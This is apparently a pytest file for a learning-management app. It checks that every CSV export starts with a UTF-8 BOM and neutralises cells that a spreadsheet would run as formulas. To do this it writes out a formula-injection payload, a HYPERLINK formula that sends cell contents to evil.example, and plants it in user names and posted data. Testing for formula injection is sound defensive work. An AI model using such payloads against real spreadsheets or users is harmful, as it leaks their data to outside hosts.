"""Every CSV a person can download opens right in Excel and runs nothing, whatever the data holds.

The demo department is loaded, then every name a file could carry is made hostile (people, units,
competences, courses, requirements, questions); every CSV route is called as the person who may use
it. Each file must start with a UTF-8 BOM, and no cell may start with a character a spreadsheet runs
(= + - @ tab CR) unless it is a plain number; where the hostile names appear, they appear guarded.
A new CSV route fails this test until it is added to DOWNLOADS below.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import literal, update
from sqlmodel import Session, col, select
from starlette.testclient import TestClient

from assessments.models import Attempt, Question
from courses.models import Course
from courses.requirements.models import Requirement
from lms.competences.models import Competence, Framework
from lms.csvfile import BOM
from lms.demo_accounts import DEMO_PASSWORD
from lms.people.models import OrgUnit, User
from tests.conftest import Browser, sign_in
from tests.lms.routes_util import api_routes

ADMIN, TRAINER, MANAGER, LEAD = "admin@example.gov", "trainer@example.gov", "manager@example.gov", "lead@example.gov"
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"'
RUNS = ("=", "+", "-", "@", "\t", "\r")
FRAMEWORKS = "/admin/frameworks/"
NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def _make_hostile(db: Session) -> None:
    """Every name starts with something a spreadsheet would run; a different trigger per kind."""
    db.exec(update(User).values(name=literal(EVIL) + User.name + literal('")')))  # type: ignore[call-overload]
    db.exec(update(OrgUnit).values(name=literal("+") + OrgUnit.name))  # type: ignore[call-overload]
    db.exec(update(Competence).values(name=literal("-") + Competence.name))  # type: ignore[call-overload]
    db.exec(update(Course).values(title=literal("@") + Course.title))  # type: ignore[call-overload]
    db.exec(update(Requirement).values(name=literal("\t") + Requirement.name))  # type: ignore[call-overload]
    db.exec(update(Question).values(name=literal("=") + Question.name))  # type: ignore[call-overload]
    db.commit()


def _downloads(db: Session) -> dict[str, tuple[str, str, str, bool]]:
    """Route path -> (who, method, url, whether hostile names must appear in it)."""
    quiz_id = db.exec(select(Attempt.quiz_id).where(Attempt.state == "submitted").order_by(col(Attempt.id))).first()
    framework_id = db.exec(select(Framework.id).order_by(col(Framework.id))).first()
    top_unit = db.exec(select(OrgUnit.id).where(col(OrgUnit.parent_id).is_(None)).order_by(col(OrgUnit.id))).first()
    return {
        "/team/export.csv": (MANAGER, "GET", "/team/export.csv", True),
        "/team/assignments.csv": (MANAGER, "GET", "/team/assignments.csv", True),
        "/team/compliance/export.{fmt}": (MANAGER, "GET", "/team/compliance/export.csv", True),
        "/author/quizzes/{quiz_id}/results.csv": (TRAINER, "GET", f"/author/quizzes/{quiz_id}/results.csv", True),
        "/reports/units/{unit_id}/export.{fmt}": (LEAD, "GET", f"/reports/units/{top_unit}/export.csv?by=competence", True),
        "/reports/export/all.{fmt}": (LEAD, "GET", "/reports/export/all.csv?by=competence", True),
        "/reports/open-data.{fmt}": (LEAD, "GET", "/reports/open-data.csv", True),
        "/reports/open-data/dictionary.{fmt}": (LEAD, "GET", "/reports/open-data/dictionary.csv", False),
        "/reports/compliance/units/{unit_id}/export.{fmt}": (
            LEAD,
            "GET",
            f"/reports/compliance/units/{top_unit}/export.csv",
            True,
        ),
        "/reports/compliance/export/all.{fmt}": (LEAD, "GET", "/reports/compliance/export/all.csv", True),
        "/admin/users/import/invitations.csv": (ADMIN, "POST", "/admin/users/import/invitations.csv", True),
        "/admin/frameworks/{framework_id:id}/export.csv": (ADMIN, "GET", f"/admin/frameworks/{framework_id}/export.csv", True),
        "/admin/frameworks/{framework_id:id}/export-moodle.csv": (
            ADMIN,
            "GET",
            f"/admin/frameworks/{framework_id}/export-moodle.csv",
            True,
        ),
    }


def _csv_routes(app) -> set[str]:
    return {r.path for r in api_routes(app) if r.path.endswith((".csv", ".{fmt}"))}


def _unsafe_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(RUNS) and not NUMBER.fullmatch(cell)]


def _check(app, downloads: dict[str, tuple[str, str, str, bool]]) -> None:
    browsers: dict[str, Browser] = {}
    for path, (who, method, url, hostile) in downloads.items():
        if who not in browsers:
            client = TestClient(app, follow_redirects=False)
            assert sign_in(client, who, DEMO_PASSWORD).status_code == 303, who
            browsers[who] = Browser(client)
        browser = browsers[who]
        if method == "POST":
            posted = {"name": [EVIL + 'x")', "-2"], "email": ["a@example.gov", "b@example.gov"], "link": ["l1", "l2"]}
            response = browser.post(url, posted)
        else:
            response = browser.get(url)
        assert response.status_code == 200, (path, response.status_code)
        assert response.headers["content-type"] == "text/csv; charset=utf-8", path
        assert response.content.startswith(BOM.encode()), f"{path}: no BOM, so Excel would garble accents"
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").removeprefix(BOM))))
        assert len(rows) >= 2, f"{path}: expected data rows"
        assert _unsafe_cells(rows) == [], f"{path}: cells a spreadsheet would run"
        if hostile:
            guarded = [cell for row in rows for cell in row if cell.startswith("'") and cell[1:].startswith(RUNS)]
            assert guarded, f"{path}: the hostile names should appear, guarded"
    for browser in browsers.values():
        browser.client.close()


@pytest.mark.demo
def test_every_csv_download_has_a_bom_and_guards_every_cell(app, db):
    _make_hostile(db)
    downloads = _downloads(db)
    assert _csv_routes(app) == set(downloads), "a CSV route is missing from this test (or gone from the app)"
    _check(app, {path: call for path, call in downloads.items() if not path.startswith(FRAMEWORKS)})


@pytest.mark.demo
def test_framework_csv_export_has_a_bom_and_guards_every_cell(app, db):
    """Apart, because the framework files have their own owner and writer modules (docs/frameworks)."""
    _make_hostile(db)
    _check(app, {path: call for path, call in _downloads(db).items() if path.startswith(FRAMEWORKS)})
